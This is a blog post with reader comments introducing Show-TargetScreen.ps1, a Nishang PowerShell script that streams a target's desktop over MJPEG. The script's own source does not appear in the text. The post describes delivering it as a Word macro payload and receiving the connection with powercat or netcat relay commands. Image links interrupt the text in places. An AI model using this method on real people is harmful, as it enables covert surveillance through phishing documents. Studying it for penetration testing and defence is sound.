Thursday, December 17, 2015

Stream a target's Desktop using MJPEG and PowerShell

Recently, I have been working on an interesting concept. I wanted to use MJPEG to stream images in real time from a target desktop to be able to see the activity of a target user. I literally spent weeks to get it working but in the end, it turned out that a small piece of PowerShell code could be used to achieve this. Anyway, I give you Show-TargetScreen.ps1. This script can stream a target's desktop in real time and the stream could be seen in browsers which support MJPEG (Firefox).

Show-TargetScreen is available in the Gather category of Nishang. The current source code looks like this:

Now, to use it for reverse connect, to avoid having to write a listener/server, I used powercat to run a local relay to which Show-TargetScreen connects and we point Firefox to the local port.So, start a powercat listener and relay to any local port. In the below command, Show-TargetScreen will connect to port 443 and Firefox will connect to Port 9000:
Note that if on a *nix machine, netcat could be used as well.

Now, tobe able to stream a user's Desktop, Show-TargetScreen must be used with a client side attack. Let's use it with Out-Word from Nishang. Since like other Nishang scripts, Show-TargetScreen.ps1 loads a function with same name, we should pass an argument -"Show-TargetScreen -Reverse -IPAddress -Port 443", and use it as a payload for Out-Word.
Now, the generated doc file is to be sent to a target. As soon as a target user opens up the Word file, we will have a connect back on the powercat listener which will relay to the configured local port (TCP 9000 in this example).
Now if we point Firefox to, we have a live stream of the target user's Desktop.
Awesome! Isn't it? I recently tried this in couple of pen tests and was quite satisfied with the results.

Couple of things which I would like to improve in future:
- Proxy support
- HTTPS Connection.

Feel free to suggest improvements and submit pull requests. Feedback and comments are welcome.


  1. Please explain this part: "As soon as a target user opens up the Word file ...". You probably meant "As soon as a target user opens up the Word file *and* than clicks on Enable Content in order to run the macro ...".

    1. You are right. The target user must Enable Content. I assumed that part when I wrote "As soon as a target user opens up the Word file". Thanks.

    2. I guess that's a critical assumption, but many people will eventually click enable.

      I would be interested to see how often this works.

  2. Hi, I'm having trouble understanding why the port relay is necessary.. Is this something internal to MJPEG? Sorry if the question is noobish, I'm a student trying to learn more about penetration testing..

    1. Hi,

      The relay is necessary because, AFAIK, Firefox is unable to listen for connections. The local relay allows us to listen for a connect back and then Firefox could be used to connect to a local port. This eliminates a need of writing a listener/server forthe connect back.

    2. Oh, thatmakes sense. Thanks for the reply, really helped clarify my understanding.

  3. Can this be extended to enable remote control of the machine?

  4. hi

    do i have to use powercat can i use netcat ?
    if its possible can you show how to chang it from powert cat to netcat ?

    powercat -l -v -p 443 -r tcp:9000 -rep -t1000
    netcat ?

    1. Of course you can use netcat, this should work:nc -nlvp 443 | nc -nlvp 9000

  5. Great content indeed.
    Very Useful post.
    Thanks for providing itNote: Only a member of this blog may post a comment.